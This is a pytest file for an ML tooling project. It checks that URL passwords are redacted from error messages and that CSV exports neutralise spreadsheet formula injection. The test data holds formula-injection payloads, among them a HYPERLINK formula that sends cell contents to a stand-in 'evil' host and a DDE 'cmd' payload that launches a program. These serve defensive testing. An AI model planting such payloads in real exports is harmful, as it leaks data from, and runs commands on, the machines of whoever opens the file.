"""Secrets in errors and formulas in exports: tracking-URI passwords never reach an error
message, and text that anonymous /predict callers sent cannot run as a spreadsheet formula
in a `monitor --export` CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from mlci.errors import redact


def test_redact_hides_url_credentials() -> None:
    assert redact("server http://bob:hunter2@h:5000/x down") == \
        "server http://bob:***@h:5000/x down"
    assert redact("https://ghp_abc123@github.com/o/r") == "https://***@github.com/o/r"
    assert redact("postgresql://u:p%40ss@db/mlflow and s3://bucket/k") == \
        "postgresql://u:***@db/mlflow and s3://bucket/k"
    assert redact("no url, user@example.com") == "no url, user@example.com"


def test_an_unreachable_tracking_server_error_hides_its_password(tmp_path: Path, monkeypatch
                                                                 ) -> None:
    import socket

    from click.testing import CliRunner

    import mlci.registry.tracking
    from mlci.cli import cli

    with socket.socket() as s:  # a port nothing listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    monkeypatch.setattr(mlci.registry.tracking.time, "sleep", lambda s: None)  # the retry backoff
    uri = f"http://mlflow:hunter2-secret@127.0.0.1:{port}"
    r = CliRunner().invoke(cli, ["serve", "--model", "m", "--out", str(tmp_path)],
                           env={"MLFLOW_TRACKING_URI": uri, "MLCI_TRACKING_URI": uri})
    assert r.exit_code == 2, r.output
    assert "unreachable" in r.output and "hunter2" not in r.output
    assert "mlflow:***@127.0.0.1" in r.output


def test_export_escapes_formula_cells_and_keeps_numbers(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    from types import SimpleNamespace

    from mlci.flows.monitor import Window, export_window

    attack = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
              "\t=1", "plain", "a=b"]
    features = pd.DataFrame({"city": attack, "age": [-3.5, 1, 2, 3, 4, 5, 6]})
    labels = pd.Series(["=1", "y", "y", "n", "n", "y", "n"])
    w = Window(features=features, labels=labels, predictions=None, versions=None, source="t")
    cfg = SimpleNamespace(data=SimpleNamespace(target="label"))
    dest = tmp_path / "window.csv"
    assert export_window(w, cfg, dest) == 7
    with dest.open(newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["city"] for r in rows] == ["'" + a for a in attack[:5]] + ["plain", "a=b"]
    assert rows[0]["age"] == "-3.5" and rows[0]["label"] == "'=1"
